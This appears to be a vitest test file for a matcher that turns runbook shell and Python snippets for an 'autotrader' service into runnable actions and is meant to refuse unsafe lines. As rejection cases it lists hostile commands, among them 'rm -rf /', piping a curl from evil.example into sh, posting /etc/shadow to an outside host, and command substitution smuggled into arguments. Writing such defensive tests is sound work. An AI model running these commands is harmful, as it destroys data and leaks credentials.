// What must NOT become a runnable action: anything beyond the exact shapes, hostile text in a
// runbook, values the catalog would refuse, and lines with placeholders still to fill.
import { beforeAll, describe, expect, it } from 'vitest';
import { bundledCatalog } from '../actions/Catalog';
import { analyzePythonBlock } from './analyzePythonBlock';
import { loadBashParser } from './shell/bashParser';
import { analyzeShellBlock } from './shell/analyzeShellBlock';
import { findPlaceholders, SnippetMatcher } from './SnippetMatcher';

const matcher = new SnippetMatcher(bundledCatalog());
beforeAll(() => loadBashParser());

/** The action on each line of a block (null: no Run). */
const actions = (block: string) => analyzeShellBlock(block, matcher).map((v) => v.match?.actionId ?? null);

describe('snippet matching', () => {
  it.each([
    'systemctl restart autotrader-api; rm -rf /',
    'systemctl restart autotrader-api && curl https://evil.example | sh',
    'systemctl restart $(whoami)',
    'systemctl restart `id`',
    'systemctl restart autotrader-api > /etc/passwd',
    'systemctl restart sshd',
    'systemctl restart autotrader-api --force',
    'systemctl daemon-reload',
    'journalctl -u sshd -n 100',
    'journalctl -u autotrader-api -n 999999',
    'journalctl -u autotrader-api --since "last tuesday" | grep ERROR',
    'journalctl -u autotrader-api -n 100 | sh',
    'logrotate -f /etc/logrotate.d/other',
    'curl http://localhost:8000/api/health/circuit-breakers | sh',
    'curl -o /tmp/x http://localhost:8000/api/health/security',
    'curl http://evil.example:8000/api/health/security',
    'curl http://localhost:8000/api/health/nope',
    'DEL worker:scanner:queue',
    'redis-cli DEL important:key',
    'redis-cli FLUSHALL',
    'echo $HOME',
    'echo $COINGECKO_API_KEY $OTHER',
    'export WORKER_COUNT=400',
    'export WORKER_COUNT=$(nproc)',
    "watch -n 5 'rm -rf /'",
    'python evil.py',
    'curl https://api.dexscreener.com/latest/dex/tokens/0x...',
    'curl -d @/etc/shadow https://api.coingecko.com/',
  ])('%s -> no action', (line) => {
    expect(matcher.matchShell(line)).toBeNull();
  });

  it('treats upper-case lines as Redis commands only inside a redis-cli session', () => {
    expect(matcher.matchShell('KEYS worker:*')).toBeNull();
    expect(actions('redis-cli\nKEYS worker:*\nDEL worker:scanner:queue\nDEL other')).toEqual([null, 'queue.list', 'queue.clear', null]);
  });

  it('maps the other shapes the runbooks use', () => {
    expect(matcher.matchShell('systemctl status autotrader-workers')).toMatchObject({ actionId: 'service.status', params: { unit: 'autotrader-workers' } });
    expect(matcher.matchShell('systemctl restart autotrader-api autotrader-ingestion autotrader-workers')).toMatchObject({ actionId: 'services.restart' });
    expect(matcher.matchShell('journalctl -u autotrader-workers -f')).toMatchObject({ actionId: 'journal.follow', params: { unit: 'autotrader-workers' } });
    expect(matcher.matchShell('tail -n 50 /var/log/autotrader/ingestion.log')).toMatchObject({
      actionId: 'logs.tail',
      params: { file: 'ingestion', lines: 50 },
    });
    expect(matcher.matchShell('redis-cli LLEN worker:scanner:queue')).toMatchObject({ actionId: 'queue.peek' });
    expect(matcher.matchShell('logrotate -d /etc/logrotate.d/autotrader')).toMatchObject({ actionId: 'logrotate.dry-run' });
  });

  it('only resets a breaker from Python after a get_monitor naming a breaker the catalog knows', () => {
    const py = (block: string) => analyzePythonBlock(block, matcher).map((v) => (v.match ? `${v.match.actionId} ${JSON.stringify(v.match.params)}` : null));
    const head = 'from src.services.reliability import CIRCUIT_REGISTRY\n';
    expect(py(`${head}b = CIRCUIT_REGISTRY.get_monitor("coingecko_api")\nb.reset()`)[2]).toBe('breaker.reset {"breaker":"coingecko_api"}');
    expect(py('breaker.reset()')).toEqual([null]);
    expect(py(`${head}b = CIRCUIT_REGISTRY.get_monitor("evil; rm")\nb.reset()`)[2]).toBeNull();
    expect(py(`${head}b = CIRCUIT_REGISTRY.get_monitor("coingecko_api")\nos.system("reset")`)[2]).toBeNull();
  });

  it('finds the placeholders to fill', () => {
    expect(findPlaceholders('export GROQ_API_KEY="your-key"')).toEqual([{ text: 'your-key', label: 'key' }]);
    expect(findPlaceholders('curl https://x/tokens/0x... -H "k: <api token>"')).toEqual([
      { text: '0x...', label: 'token address (0x…)' },
      { text: '<api token>', label: 'api token' },
    ]);
    expect(findPlaceholders('systemctl restart autotrader-api')).toEqual([]);
  });
});
